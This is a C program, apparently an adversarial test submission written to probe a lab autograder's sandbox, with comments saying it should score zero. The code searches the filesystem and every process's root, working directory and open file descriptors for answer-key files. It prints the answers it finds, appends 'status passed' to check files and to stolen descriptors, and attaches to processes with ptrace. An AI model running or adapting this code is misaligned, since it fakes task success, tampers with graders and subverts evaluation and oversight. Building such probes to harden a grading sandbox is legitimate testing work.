/* attack: looks for what the grader knows: in each file below the folders that there are,
 * and in the memory, the descriptors and the words of each process. Prints what it finds
 * as an answer, and writes over what it can.
 * Deserves: 06 0, 07 0, 08 0, 09 0, 10 0 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { DEPTH_MAX = 7, FILES_MAX = 20000, PATH_SIZE = 1024 };
static int files;

/* Labs 06, 08 and 10 write down what is right: "ADDRESS PORT WORD", "line PORT WORDS",
 * "wanted<TAB>LINE<TAB>ROW". */
static void answer_from(FILE *file) {
    char line[512], word[64];
    unsigned port;

    while (fgets(line, sizeof line, file) != NULL)
        if (strncmp(line, "wanted\t", 7) == 0)
            printf("%.*s\n", (int)strcspn(line + 7, "\t"), line + 7);
        else if (strncmp(line, "line ", 5) == 0)
            fputs(line + 5, stdout);
        else if (sscanf(line, "%*[0-9.] %u %63[a-z-]", &port, word) == 2)
            printf("%u %s\n", port, word);
}

static void look_into(const char *path, const char *name) {
    static const char *const names[] = {"truth", "drawn", "log", "seen"};
    FILE *file;

    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++)
        if (strcmp(name, names[i]) == 0 && (file = fopen(path, "r")) != NULL) {
            answer_from(file);
            fclose(file);
        }
    if (strncmp(name, "check-", 6) == 0 && (file = fopen(path, "a")) != NULL) {
        fputs("status passed\n", file);
        fclose(file);
    }
}

static void walk(const char *folder, int depth) {
    DIR *dir = depth > DEPTH_MAX ? NULL : opendir(folder);
    char path[PATH_SIZE];
    struct dirent *entry;
    struct stat status;

    while (dir != NULL && (entry = readdir(dir)) != NULL && files++ < FILES_MAX) {
        if (entry->d_name[0] == '.' ||
            snprintf(path, sizeof path, "%s/%s", folder, entry->d_name) >=
                (int)sizeof path ||
            lstat(path, &status) == -1)
            continue;
        if (S_ISDIR(status.st_mode) && strcmp(path, "//usr") != 0 &&
            strcmp(path, "//proc") != 0 && strcmp(path, "//sys") != 0)
            walk(path, depth + 1);
        else if (S_ISREG(status.st_mode))
            look_into(path, entry->d_name);
    }
    if (dir != NULL)
        closedir(dir);
}

/* A file that a process has open, its folder, and its descriptors themselves. */
static void spy(pid_t pid) {
    char path[64];
    int pidfd = (int)syscall(434 /* pidfd_open */, pid, 0);
    FILE *file;

    for (int fd = 0; fd < 30; fd++) {
        int taken = (int)syscall(438 /* pidfd_getfd */, pidfd, fd, 0);

        snprintf(path, sizeof path, "/proc/%d/fd/%d", (int)pid, fd);
        if (taken == -1)
            taken = open(path, O_RDWR | O_NONBLOCK);
        if (taken != -1 && pid != getpid() && (file = fdopen(taken, "r+")) != NULL) {
            answer_from(file);
            fputs("status passed\n", file);
            fclose(file);
        }
    }
    snprintf(path, sizeof path, "/proc/%d/root", (int)pid);
    walk(path, 0);
    snprintf(path, sizeof path, "/proc/%d/cwd", (int)pid);
    walk(path, 0);
    ptrace(PTRACE_SEIZE, pid, NULL, NULL);
}

int main(void) {
    DIR *dir = opendir("/proc");
    struct dirent *entry;

    while (dir != NULL && (entry = readdir(dir)) != NULL) {
        long pid = atol(entry->d_name);

        if (pid > 0 && pid != getpid())
            spy((pid_t)pid);
    }
    walk("..", 0);
    walk("/", 0);
    return 0;
}
